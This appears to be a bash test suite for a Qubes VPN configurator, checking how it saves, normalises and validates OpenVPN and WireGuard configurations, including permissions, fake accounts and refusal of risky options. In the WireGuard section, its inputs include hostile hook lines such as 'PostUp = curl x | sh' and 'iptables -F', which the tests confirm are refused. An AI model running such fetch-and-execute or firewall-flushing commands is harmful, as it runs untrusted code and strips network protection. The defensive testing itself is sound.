#!/bin/bash
# configurator.test.sh - qubes-vpn-configurator with a fake editor (EDITOR
# points at a script that records who ran it and writes what the case
# wants): a new configuration, an unchanged one (nothing replaced), a
# changed one, the edit normalised as an import is, one OpenVPN refuses
# (never saved), every warning of --check, the editor running as the sudo
# user. The unit's user comes from bind-mounted copies of /etc/passwd and
# /etc/group (qubes-vpn, uid 4242); configurations use a throwaway PKI, as
# OpenVPN checks each one before it is saved.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/providers.sh"

chmod 755 "$TMP"
CFG=$TMP/cfg
REC=$TMP/rec
PKI=$TMP/pki
provider_pki "$PKI"
chown 4242:4343 "$PKI/client.key"   # as the user would have it
chmod 600 "$PKI/client.key"
mkdir -p "$REC"
chmod 777 "$REC"
provider_accounts 4242 4343
cat >"$TMP/editor" <<EOF
#!/bin/sh
# Fake editor: records, then applies $TMP/case (keep, or a file to copy in).
id -u >"$REC/uid"
echo "\$HOME" >"$REC/home"
printf '%s\n' "\$@" >"$REC/argv"
stat -c '%a %u' "\$1" >"$REC/copy-mode"
cat "\$1" >"$REC/initial"
c=\$(cat "$TMP/case")
[ "\$c" = keep ] || cat "\$c" >"\$1"
EOF
chmod 755 "$TMP/editor"
edit_case() { echo "$1" >"$TMP/case"; }
configure() {
	with_accounts env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin EDITOR="$TMP/editor" "$@" \
		"$QV" configurator --dir "$CFG" >"$TMP/out" 2>&1
}
# The client's certificate and key, by absolute path.
PKI_LINES="ca $PKI/ca.crt
cert $PKI/client.crt
key $PKI/client.key"

check "configurator --help" quiet "$QV" configurator --help
check_eq "a relative --dir is a usage error" \
	"$("$QV" configurator --dir rel >/dev/null 2>&1; echo $?)" 2

# ---- a new configuration ----
cat >"$TMP/good.conf" <<EOF
client
dev tun
remote vpn.example.com 1194
$PKI_LINES
auth-user-pass
<auth-user-pass>
up /bin/this-is-inline-data-and-not-an-option
password
</auth-user-pass>
EOF
edit_case "$TMP/good.conf"
check "new configuration: succeeds" configure
check_eq "new configuration: directory created, mode 0750" "$(stat -c %a "$CFG")" 750
check_contains "new configuration: the editor started from the commented sample" \
	"$(cat "$REC/initial")" "# Qubes VPN: OpenVPN client configuration."
check_eq "new configuration: the file has the edited content" "$(cat "$CFG/qubes-vpn.conf")" \
	"$(cat "$TMP/good.conf")"
check_eq "new configuration: mode 0640, owned by root, group qubes-vpn" \
	"$(stat -c '%a %u %g' "$CFG/qubes-vpn.conf")" "640 0 4343"
check_eq "the editor got a private 0600 copy" "$(cat "$REC/copy-mode")" "600 0"
check_contains "OpenVPN accepted it" "$(cat "$TMP/out")" "created: OpenVPN accepts it (0 changes, 0 warnings)"
check_eq "inline blocks are not read as options" "$(grep -c "'up" "$TMP/out")" 0
check_eq "the temporary copy is gone" "$(ls -d /tmp/qubes-vpn-config.* 2>/dev/null | wc -l)" 0

# ---- unchanged: nothing replaced ----
before=$(stat -c '%i %Y' "$CFG/qubes-vpn.conf")
edit_case keep
check "unchanged configuration: succeeds" configure
check_contains "unchanged configuration: says so" "$(cat "$TMP/out")" "unchanged: nothing replaced"
check_eq "unchanged configuration: the file was not replaced" \
	"$(stat -c '%i %Y' "$CFG/qubes-vpn.conf")" "$before"

# ---- changed ----
printf 'client\ndev tun\nremote other.example.com 443\n%s\n' "$PKI_LINES" >"$TMP/changed.conf"
edit_case "$TMP/changed.conf"
check "changed configuration: succeeds" configure
check_contains "changed configuration: replaced" "$(cat "$TMP/out")" "replaced"
check_eq "changed configuration: new content" "$(cat "$CFG/qubes-vpn.conf")" \
	"$(cat "$TMP/changed.conf")"
check_eq "changed configuration: new file (atomic rename)" \
	"$([ "$(stat -c %i "$CFG/qubes-vpn.conf")" != "${before%% *}" ] && echo yes)" yes

# What a provider's file often has and this qube must not run: hooks,
# routes, a user.
RISKY_LINES="up /etc/openvpn/update-resolv-conf
down /etc/openvpn/update-resolv-conf
route-up /bin/true
script-security 3
redirect-gateway def1
user nobody"

# ---- an edit is normalised as an import is ----
cat >"$TMP/hooks.conf" <<EOF
client
dev tun
remote other.example.com 443
$PKI_LINES
$RISKY_LINES
EOF
edit_case "$TMP/hooks.conf"
check "an edit with hooks and routes: saved" configure
out=$(cat "$TMP/out")
check_contains "... up commented out, said" "$out" "line 7: commented out 'up /etc/openvpn/update-resolv-conf': runs programs"
check_contains "... down" "$out" "line 8: commented out 'down /etc/openvpn/update-resolv-conf'"
check_contains "... route-up" "$out" "line 9: commented out 'route-up /bin/true'"
check_contains "... script-security" "$out" "line 10: commented out 'script-security 3'"
check_contains "... redirect-gateway" "$out" "line 11: commented out 'redirect-gateway def1': qubes-vpn routes"
check_contains "... user" "$out" "line 12: commented out 'user nobody': the unit runs OpenVPN unprivileged"
check_contains "... 6 changes" "$out" "OpenVPN accepts it (6 changes, 0 warnings)"
check_eq "... each marked in the file" "$(grep -c '^# qubes-vpn-configurator commented out' "$CFG/qubes-vpn.conf")" 6
saved=$(cat "$CFG/qubes-vpn.conf")

# ---- an edit OpenVPN refuses, or qubes-vpn cannot use, is never saved ----
printf 'client\ndev tun\nremote x 1\nca missing-ca.crt\n' >"$TMP/missing.conf"
edit_case "$TMP/missing.conf"
check_fails "a missing certificate file: not saved" configure
out=$(cat "$TMP/out")
check_contains "... warned" "$out" "line 4: file 'missing-ca.crt' does not exist: OpenVPN will not start"
check_contains "... OpenVPN refuses it" "$out" "OpenVPN refuses the new configuration: nothing replaced"
check_eq "... the saved configuration is kept" "$(cat "$CFG/qubes-vpn.conf")" "$saved"
printf 'client\ndev tap0\nremote x 1\n%s\n' "$PKI_LINES" >"$TMP/tap.conf"
edit_case "$TMP/tap.conf"
check_fails "dev tap0: not saved" configure
check_contains "... said" "$(cat "$TMP/out")" "line 2: dev tap0: qubes-vpn works with tun devices only"
check_eq "... the saved configuration is kept" "$(cat "$CFG/qubes-vpn.conf")" "$saved"

# ---- every warning of --check ----
umask 022
echo secret >"$CFG/open.key"
chmod 644 "$CFG/open.key"
echo secret >"$CFG/root.key"
chmod 600 "$CFG/root.key"
cat >"$CFG/qubes-vpn.conf" <<EOF
client
dev tap0
$RISKY_LINES
key open.key
tls-crypt root.key
auth-user-pass missing.txt
block-outside-dns
auth-user-pass
EOF
out=$(with_accounts "$QV" configurator --dir "$CFG" --check 2>&1)
check_contains "warns: up" "$out" "line 3: remove 'up /etc/openvpn/update-resolv-conf': runs programs"
check_contains "warns: down" "$out" "line 4: remove 'down /etc/openvpn/update-resolv-conf'"
check_contains "warns: route-up" "$out" "line 5: remove 'route-up /bin/true'"
check_contains "warns: script-security" "$out" "line 6: remove 'script-security 3'"
check_contains "warns: redirect-gateway" "$out" "line 7: remove 'redirect-gateway def1': qubes-vpn routes"
check_contains "warns: user/group" "$out" "line 8: remove 'user nobody': the unit runs OpenVPN"
check_contains "warns: secret readable by others" "$out" \
	"line 9: 'open.key' holds a secret but others can read it: make it mode 0600"
check_contains "warns: secret not owned by qubes-vpn" "$out" "line 10: 'root.key' is not owned by qubes-vpn"
check_contains "warns: missing credentials file" "$out" "line 11: file 'missing.txt' does not exist"
check_contains "warns: Windows-only options" "$out" "line 12: remove 'block-outside-dns': Windows-only"
check_contains "warns: auth-user-pass without a file" "$out" \
	"line 13: 'auth-user-pass' without a file: OpenVPN would ask on a terminal nobody sees: run qubes-vpn-configurator --credentials"
check_contains "warns: dev tap0" "$out" "line 2: dev tap0: qubes-vpn works with tun devices only"
check_contains "counts the warnings" "$out" "13 warnings"
check_contains "a clean configuration has no warnings" \
	"$(printf 'client\ndev tun\nremote x 1\n' >"$CFG/qubes-vpn.conf"; \
	   with_accounts "$QV" configurator --dir "$CFG" --check 2>&1)" "0 warnings"

# ---- the editor runs as the user who ran sudo ----
edit_case "$TMP/changed.conf"
rm -f "$REC"/*
check "as sudo user 1000" configure SUDO_UID=1000 SUDO_GID=1000
check_eq "the editor ran as uid 1000, not root" "$(cat "$REC/uid")" 1000
check_eq "its copy belonged to uid 1000" "$(cat "$REC/copy-mode")" "600 1000"
check_eq "the real file still belongs to root" "$(stat -c %u "$CFG/qubes-vpn.conf")" 0

# ---- accounts from /etc/passwd and /etc/group (bind-mounted fakes) ----
# The qubes-vpn user and group and the sudo user's home come from these
# files. Lines that only look like the entry (malformed, a longer name, the
# tail of an overlong line) must not be taken for it.
{
	printf '%*s' 1024 '' | tr ' ' B; echo 'qubes-vpn:x:1:1::/:/bin/sh'
	echo 'qubes-vpn-other:x:7:7::/:/bin/sh'
	echo 'qubes-vpn'
	echo 'qubes-vpn:x:notanumber:1::/:/bin/sh'
	echo 'qubes-vpn:x:4242:4343:Qubes VPN:/nonexistent:/usr/sbin/nologin'
	printf '%*s' 1100 '' | tr ' ' C; echo ':x:1000:1000::/home/wrong:/bin/sh'
	echo 'tester:x:1000:1000::/home/tester:/bin/sh'
	echo 'qubes-vpn:x:5:5::/:/bin/sh'
} >"$TMP/passwd"
printf 'qubes-vpn-x:x:1:\nqubes-vpn:x:bad:\nqubes-vpn:x:4343:' >"$TMP/group"   # no final newline
CFG2=$TMP/cfg2
edit_case "$TMP/changed.conf"
rm -f "$REC"/*
with_accounts env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin EDITOR="$TMP/editor" SUDO_UID=1000 \
	SUDO_GID=1000 "$QV" configurator --dir "$CFG2" >"$TMP/out" 2>&1
check_eq "a new directory belongs to the qubes-vpn group of /etc/group" "$(stat -c %g "$CFG2")" 4343
check_eq "the editor's HOME is the sudo user's home in /etc/passwd" "$(cat "$REC/home")" /home/tester
echo secret >"$CFG2/own.key"
chown 4242 "$CFG2/own.key"
echo secret >"$CFG2/root.key"
chmod 600 "$CFG2/own.key" "$CFG2/root.key"
printf 'client\ndev tun\nremote x 1\nkey own.key\ntls-crypt root.key\n' >"$CFG2/qubes-vpn.conf"
out=$(with_accounts "$QV" configurator --dir "$CFG2" --check 2>&1)
check_contains "a secret not owned by the qubes-vpn user of /etc/passwd: warned" "$out" \
	"'root.key' is not owned by qubes-vpn"
check_eq "a secret owned by it (uid 4242): no warning" "$(grep -c "'own.key'" <<<"$out")" 0
check_contains "... and nothing else to say" "$out" "1 warning"
printf 'root:x:0:0::/root:/bin/sh\n' >"$TMP/passwd"
out=$(with_accounts "$QV" configurator --dir "$CFG2" --check 2>&1)
check_contains "no qubes-vpn user at all: ownership not checked" "$out" "0 warnings"

out=$(with_accounts env -i PATH=/usr/bin:/bin EDITOR="$TMP/editor" "$QV" configurator --dir "$CFG2" 2>&1)
check_contains "no qubes-vpn user to run OpenVPN as: nothing saved, said" "$out" \
	"there is no user qubes-vpn to run OpenVPN as"

# ---- failures ----
provider_accounts 4242 4343
edit_case /nonexistent/file
printf '#!/bin/sh\nexit 3\n' >"$TMP/failing-editor"
chmod 755 "$TMP/failing-editor"
before=$(cat "$CFG/qubes-vpn.conf")
out=$(with_accounts env -i PATH=/usr/bin:/bin EDITOR="$TMP/failing-editor" "$QV" configurator --dir "$CFG" 2>&1)
check_contains "an editor that fails: nothing changed" "$out" "failed: nothing changed"
check_eq "... the file is untouched" "$(cat "$CFG/qubes-vpn.conf")" "$before"
out=$(with_accounts env -i PATH=/nonexistent "$QV" configurator --dir "$CFG" 2>&1 </dev/null)
check_contains "no editor at all: said plainly" "$out" "no editor found: set VISUAL or EDITOR"
out=$(setpriv --reuid=65534 --regid=65534 --clear-groups env -i EDITOR=true \
	"$QV" configurator --dir "$CFG" 2>&1)
check_contains "not root: asks for sudo" "$out" "run 'sudo qubes-vpn-configurator'"

# ---- WireGuard: --check uses qubes-vpn-wg's parser ----
WG=$TMP/wgcfg
mkdir -p "$WG"
cp "$TOP/tests/fuzz/corpus/wgconf/ipv4" "$WG/wireguard.conf"
chmod 600 "$WG/wireguard.conf"
out=$("$QV" configurator --dir "$WG" --check 2>&1)
check_contains "WireGuard --check: IPv4 only says IPv6 traffic is refused" "$out" \
	"no IPv6 Address: downstream IPv6 traffic is refused (blocked)"
sed -i 's|^AllowedIPs = .*|AllowedIPs = 10.0.0.0/8|' "$WG/wireguard.conf"
check_contains "WireGuard --check: AllowedIPs short of 0.0.0.0/0 is said plainly" \
	"$("$QV" configurator --dir "$WG" --check 2>&1)" "AllowedIPs does not cover 0.0.0.0/0"
printf 'PostUp = curl x | sh\n' >>"$WG/wireguard.conf"
out=$("$QV" configurator --dir "$WG" --check 2>&1)
check_contains "WireGuard --check: a shell hook makes it unusable" "$out" "shell commands are never run"
check_eq "... exit 1" "$("$QV" configurator --dir "$WG" --check >/dev/null 2>&1; echo $?)" 1

# ---- WireGuard: --import takes wg-quick's format ----
# The provider's file as downloaded (world-readable is fine to read); the
# written copy holds the private key: root, group qubes-vpn, 0640.
WI=$TMP/wgimport
mkdir -p "$WI"
cp "$CFG/qubes-vpn.conf" "$WI/qubes-vpn.conf"
ovpn_sum=$(sha256sum <"$WI/qubes-vpn.conf")
SRC=$TMP/provider-wg.conf
cp "$TOP/tests/fuzz/corpus/wgconf/dual-stack" "$SRC"
chmod 644 "$SRC"
PRIV=KMp8ONEV7ptIxG6rbhwex0fkMj4vH0i9vW0d/yofGEQ=
wg_import() {
	with_accounts env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin "$QV" configurator --dir "$WI" \
		--import "$@" >"$TMP/out" 2>&1
}
check "WireGuard --import of the provider's file" wg_import "$SRC"
out=$(cat "$TMP/out")
check_contains "... recognised by its [Interface] section, said so" "$out" \
	"a WireGuard configuration (wg-quick's format: it has an [Interface] section)"
check "... written as it is" cmp -s "$SRC" "$WI/wireguard.conf"
check_eq "... a regular file, mode 0640, owner root, group qubes-vpn" \
	"$(stat -c '%F %a %u %g' "$WI/wireguard.conf")" "regular file 640 0 4343"
check_contains "... saying that WireGuard now runs, and how to start it" "$out" \
	"start it with 'sudo systemctl start qubes-vpn-wg.service'"
check_contains "... that the OpenVPN configuration is kept, unused, and how to go back" "$out" \
	"qubes-vpn.conf (OpenVPN) is kept but not used: while wireguard.conf exists only the WireGuard unit runs; to go back to OpenVPN, remove wireguard.conf and run 'sudo systemctl start qubes-vpn.service'"
check_eq "... which is unchanged" "$(sha256sum <"$WI/qubes-vpn.conf")" "$ovpn_sum"
check_fails "... and the private key is never shown" grep -qF "$PRIV" "$TMP/out"
check_eq "... no temporary file left" "$(ls -A "$WI" | tr '\n' ' ')" "qubes-vpn.conf wireguard.conf "
check_contains "--check then reads it as qubes-vpn-wg does" \
	"$("$QV" configurator --dir "$WI" --check 2>&1)" "wireguard.conf: 1 warning"
good_sum=$(sha256sum <"$WI/wireguard.conf")
# refused: nothing written, the working file kept
refused_wg() {
	! wg_import "$1" && grep -q "nothing written" "$TMP/out" &&
		[ "$(sha256sum <"$WI/wireguard.conf")" = "$good_sum" ] && [ ! -e "$WI/.wireguard.conf.new" ]
}
sed 's/^DNS = .*/&\nPostUp = iptables -F; curl x | sh/' "$SRC" >"$TMP/wg-postup.conf"
check "WireGuard --import: PostUp refused, the working file kept" refused_wg "$TMP/wg-postup.conf"
check_contains "... naming the line" "$(cat "$TMP/out")" "line 6: PostUp: shell commands are never run"
sed 's|^PublicKey = .*|PublicKey = nNF6ESbgaVf0tGQ09wPkzSZKGBgdZqzbpFzq1IBVFEM|' "$SRC" >"$TMP/wg-badkey.conf"
check "WireGuard --import: a public key cut short refused" refused_wg "$TMP/wg-badkey.conf"
sed "s|^PrivateKey = .*|PrivateKey = ${PRIV%=}A|" "$SRC" >"$TMP/wg-badpriv.conf"
check "WireGuard --import: a private key with a bad end refused" refused_wg "$TMP/wg-badpriv.conf"
check_fails "... its value never shown" grep -q "${PRIV%%=*}" "$TMP/out"
sed 's|^Address = .*|Address = 010.66.1.2/33|' "$SRC" >"$TMP/wg-badaddr.conf"
check "WireGuard --import: a bad Address refused" refused_wg "$TMP/wg-badaddr.conf"
printf '[Interface]\nPrivateKey = %s\nAddress = 10.0.0.2/32\n' "$PRIV" >"$TMP/wg-nopeer.conf"
printf '[Peer]\nPublicKey = nNF6ESbgaVf0tGQ09wPkzSZKGBgdZqzbpFzq1IBVFEM=\nAllowedIPs = 10.0.0.0/8\nEndpoint = 192.0.2.1:51820\n' >>"$TMP/wg-nopeer.conf"
check "WireGuard --import: AllowedIPs short of everything is accepted" wg_import "$TMP/wg-nopeer.conf"
check_contains "... saying plainly which traffic is refused" "$(cat "$TMP/out")" \
	"AllowedIPs does not cover 0.0.0.0/0: downstream IPv4 traffic to other addresses is refused"
check_eq "... with --credentials: a usage error (they are OpenVPN's)" \
	"$(wg_import "$SRC" --credentials; echo $?)" 2
# Links where the file goes: replaced, their targets untouched.
echo precious >"$TMP/target"
rm -f "$WI/wireguard.conf"
ln -s "$TMP/target" "$WI/wireguard.conf"
ln -s "$TMP/target" "$WI/.wireguard.conf.new"
check "WireGuard --import over a symlink" wg_import "$SRC"
check_eq "... the link's target untouched" "$(cat "$TMP/target")" precious
check_eq "... the link replaced by the private file" "$(stat -c '%F %a' "$WI/wireguard.conf")" "regular file 640"

finish
